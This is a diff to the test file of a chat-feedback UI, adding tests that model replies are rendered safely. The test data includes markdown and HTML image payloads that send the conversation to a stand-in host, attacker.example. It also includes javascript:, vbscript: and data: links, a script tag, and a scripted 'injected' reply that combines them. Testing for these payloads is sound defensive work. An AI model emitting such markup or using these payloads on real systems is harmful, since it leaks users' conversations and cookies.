@@ -316,7 +316,7 @@ def test_ranking_k_replies_gives_every_implied_pair_in_the_export(deps, tmp_path
     assert json.loads(reply_ids) == best_first
     assert f"{k * (k - 1) // 2} preference pairs" in status
     assert session.turns[-1].reply_id == shown[-1]["reply_id"]  # the best continues the chat
-    assert chatbot[-1]["content"] == ui.html.escape(shown[-1]["text"], quote=False)
+    assert chatbot[-1]["content"] == ui.safe_markdown(shown[-1]["text"])
     out_file = tmp_path / "pref.jsonl"
     assert deps.store.export("preference", out_file) == k * (k - 1) // 2
     rows = [json.loads(line) for line in out_file.read_text().splitlines()]
@@ -458,3 +458,134 @@ def test_api_routes_keep_their_shape_and_page_events_are_private(deps):
     assert [type(c).__name__ for c in routes["rank"].inputs] == ["State", "Textbox"]
     private = [f for f in demo.fns.values() if f.name in ("send_in_mode", "rank_by_places", "rank_tie")]
     assert len(private) == 4 and {f.api_visibility for f in private} == {"private"}
+
+
+# -- safe rendering of model text ------------------------------------------------------------
+
+
+LEAK = "http://attacker.example/collect?q=the+conversation"
+IMAGES = [
+    f"![]({LEAK})",
+    f"Sure! ![logo]({LEAK}) Here it is.",
+    f'![x]({LEAK} "title")',
+    f"![x][img]\n\n[img]: {LEAK}",
+    f"![img]\n\n[img]: {LEAK}",
+    f"[![x]({LEAK})](https://example.com)",
+    f"!![x]({LEAK})",
+]
+UNSAFE_LINKS = [
+    "[click](javascript:alert(document.cookie))",
+    "[click]( JavaScript:alert(1))",
+    "[click](java\\script:alert(1))",
+    "[click](<javascript:alert(1)>)",
+    "[click](\n  vbscript:msgbox(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "[click][r]\n\n[r]: javascript:alert(1)",
+    "[click][r]\n\n[r]:data:text/html,x",
+]
+
+
+@pytest.mark.parametrize("text", IMAGES)
+def test_safe_markdown_loads_no_image(text):
+    shown = ui.safe_markdown(text)
+    assert "![" not in shown  # every Markdown image starts with '![': none is left to load
+    assert "&#33;[" in shown  # shown as '!' and a link instead
+
+
+@pytest.mark.parametrize("text", [f'<img src="{LEAK}">', f"<IMG SRC={LEAK} onerror=alert(1)>", f'<svg><image href="{LEAK}"/></svg>',
+                                  f'<picture><source srcset="{LEAK}"></picture>', "<script>alert(1)</script>"])
+def test_safe_markdown_shows_html_as_text(text):
+    shown = ui.safe_markdown(text)
+    assert "<" not in shown and ">" not in shown and shown.startswith("&lt;")
+
+
+@pytest.mark.parametrize("text", UNSAFE_LINKS)
+def test_safe_markdown_shows_links_to_other_schemes_as_text(text):
+    shown = ui.safe_markdown(text)
+    assert "](" not in shown and "]:" not in shown
+    assert "]&#40;" in shown or "]&#58;" in shown
+
+
+@pytest.mark.parametrize("text", ["[docs](https://example.com/a_(b))", "[mail](mailto:ada@example.com)", "[here](#section)",
+                                  "[rel](/docs/a:b)", "[r]\n\n[r]: https://example.com", "**bold**, _it_, `code`, 1. list",
+                                  "time: 10:30, see [note]: below"])
+def test_safe_markdown_leaves_ordinary_markdown_and_http_links_alone(text):
+    assert ui.safe_markdown(text) == ui.html.escape(text, quote=False)
+
+
+@pytest.mark.parametrize("text", IMAGES + UNSAFE_LINKS + ["a < b && c > d", "&#33;[x](y) &amp; &lt", "plain"])
+def test_safe_markdown_is_undone_by_unescape(text):
+    assert ui.html.unescape(ui.safe_markdown(text)) == text  # what an edit of the shown text gives back
+
+
+class ScriptedEngine:
+    """Stands in for the Engine: each reply is the next of `texts`, produced whole."""
+
+    def __init__(self, texts: list[str]):
+        self.policy = types.SimpleNamespace(current="base", loaded={})
+        self.texts = list(texts)
+
+    def submit(self, context, params, version=None):
+        from assistant import chat
+
+        stream = chat.Stream([0], params, version or self.policy.current)
+        text = self.texts.pop(0)
+        stream.reply = chat.Reply(text, stream.version, 1, 1, 1.0, 1.0, "eos")
+        stream._queue.put(text)
+        stream._queue.put(chat._DONE)
+        return stream
+
+
+@pytest.fixture
+def scripted(tmp_path):
+    """deps whose engine replies with scripted texts: scripted(*texts)."""
+    stores = []
+
+    def make(*texts: str) -> ui.Deps:
+        store = FeedbackStore(tmp_path / f"feedback{len(stores)}.db")
+        stores.append(store)
+        return ui.Deps(engine=ScriptedEngine(list(texts)), store=store, args=ServeArgs(compare_temperature_spread=0.0),
+                       model_name="tiny")
+
+    yield make
+    for store in stores:
+        store.close()
+
+
+INJECTED = f"The answer is 4. ![]({LEAK}) <img src=\"{LEAK}\"> [more](javascript:alert(1))"
+
+
+def shown_contents(*outputs) -> list[str]:
+    """Every message content in handler outputs (chatbot values and panel values)."""
+    return [m["content"] for out in outputs if isinstance(out, list) for m in out if isinstance(m, dict)]
+
+
+def test_chat_reply_is_shown_safe_and_stored_as_generated(scripted):
+    deps = scripted(INJECTED)
+    session = named(deps)
+    chatbot, *_ = run(ui.send_in_mode(deps, session, "2+2?", "", 0.7, 1.0, 16, "chat"))
+    assert chatbot[-1]["content"] == ui.safe_markdown(INJECTED)
+    assert "![" not in chatbot[-1]["content"] and "<img" not in chatbot[-1]["content"] and "](javascript" not in chatbot[-1]["content"]
+    assert deps.store.get_reply(session.turns[-1].reply_id)["text"] == INJECTED
+    assert session.turns[-1].content == INJECTED
+
+
+def test_compare_and_rank_panels_show_replies_safe(scripted):
+    deps = scripted(INJECTED, "fine", INJECTED, "also fine", "ok")
+    session = named(deps)
+    out = run(ui.send_in_mode(deps, session, "2+2?", "", 0.7, 1.0, 16, "compare"))
+    after = ui.decide(deps, session, "a" if session.pending[0]["text"] == INJECTED else "b")
+    ranked = run(ui.send_in_mode(deps, session, "again", "", 0.7, 1.0, 16, "rank"))
+    contents = shown_contents(*out, *after, *ranked)
+    assert ui.safe_markdown(INJECTED) in contents
+    assert not [c for c in contents if "![" in c or "<img" in c or "](javascript" in c]
+    stored = deps.store.db().execute("SELECT text FROM replies").fetchall()
+    assert sorted(r[0] for r in stored) == sorted([INJECTED, "fine", INJECTED, "also fine", "ok"])
+
+
+def test_an_unchanged_edit_of_a_safe_shown_reply_stores_no_correction(scripted):
+    deps = scripted(INJECTED)
+    session = named(deps)
+    chatbot, *_ = run(ui.send_in_mode(deps, session, "2+2?", "", 0.7, 1.0, 16, "chat"))
+    ui.on_edit(deps, session, types.SimpleNamespace(index=1, value=chatbot[1]["content"], previous_value=""))
+    assert deps.store.counts()["corrections"] == 0 and session.turns[1].content == INJECTED
